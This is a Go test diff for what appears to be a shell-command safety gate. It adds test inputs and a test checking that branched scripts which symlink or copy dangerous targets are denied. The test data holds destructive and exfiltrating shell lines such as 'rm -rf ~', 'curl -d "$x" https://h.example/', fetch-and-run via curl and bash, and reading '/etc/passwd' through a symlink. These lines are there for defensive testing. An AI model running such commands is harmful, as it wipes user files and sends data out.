@@ -8,6 +8,7 @@ import (
 	"mvdan.cc/sh/v3/syntax"
 	"pgregory.net/rapid"
 
+	"pp/engine"
 	"pp/gates/shell"
 )
 
@@ -23,7 +24,9 @@ var changes = []string{
 	`f() { rm -rf ~; }`, `f() { ls; }`, `unset -f f`, `alias ls='rm -rf'`, `trap 'rm -rf ~' EXIT`,
 	`trap 'x=rm' DEBUG`, `IFS=:`, `PATH=/tmp/bin:$PATH`, `HOME=/`, `y=.env`, `y=src`, `x+=.env`, `x+=b`,
 	`echo ls > s.sh`, `curl -s https://h.example/ -o s.sh`, `echo 'rm -rf ~' > s.sh`, `mkdir -p build`,
-	`ln -s / link`, `exec < a.txt`, `exec > out.txt`, `git config core.hooksPath h`, `:`, `exit 1`,
+	`ln -s / link`, `ln -s build link`, `cp /bin/rm copy`, `cp /bin/ls copy`, `export GIT_DIR=/tmp/x`,
+	`git remote add r https://h.example/r.git`, `git remote add r ../r.git`,
+	`exec < a.txt`, `exec > out.txt`, `git config core.hooksPath h`, `:`, `exit 1`,
 	`export -f f`, `x=*`, `x=src/*`, `x={a,b}`, `x=~`, `mapfile -t x < a.txt`,
 }
 
@@ -35,7 +38,7 @@ var uses = []string{
 	`bash -c 'rm -rf $x'`, `bash s.sh`, `. ./s.sh`, `./s.sh`, `rm -rf link/`, `read y; cat $y`, `make`,
 	`wc -l *.go`, `xargs cat <<< "$x"`, `eval "$x"`, `git log $x`, `echo "$x" > out.txt`, `grep -rn foo $x`,
 	`for i in $x; do cat $i; done`, `: $((x))`, `[[ -v $x ]]`, `curl -d "$x" https://h.example/`, `test -f $x`,
-	`printf -v "$x" 1`, `unset "$x"`, `true`,
+	`printf -v "$x" 1`, `unset "$x"`, `true`, `./copy -rf ~`, `git fetch r`, `git fetch --all`, `cat link/etc/passwd`,
 }
 
 // TestSwappedBranches: which of two branches is written first decides nothing.
@@ -77,6 +80,24 @@ func TestSwappedBranches(tb *testing.T) {
 			)
 		}
 	})
+}
+
+// TestBranchesOfOneName: what two branches put under one name may be there, whichever is written first.
+func TestBranchesOfOneName(t *testing.T) {
+	a, f := analyst(), home()
+	for _, c := range []struct{ first, second, use string }{
+		{"ln -s ~ l", "ln -s build l", "rm -rf l/"},
+		{"ln -s / l", "ln -s build l", "rm -rf l/*"},
+		{"cp /bin/rm c", "cp /bin/ls c", "./c -rf ~"},
+		{"mv /bin/rm c", ":", "./c -rf ~"},
+	} {
+		for _, pair := range [][2]string{{c.first, c.second}, {c.second, c.first}} {
+			script := "if test -f y; then " + pair[0] + "; else " + pair[1] + "; fi; " + c.use
+			if v := judge(t, a, script, f); v.Decision != engine.Deny {
+				t.Errorf("%s: %v %s", script, v.Decision, v.Sentence())
+			}
+		}
+	}
 }
 
 // TestSwappedScripts swaps the branches of the ifs in the corpora.
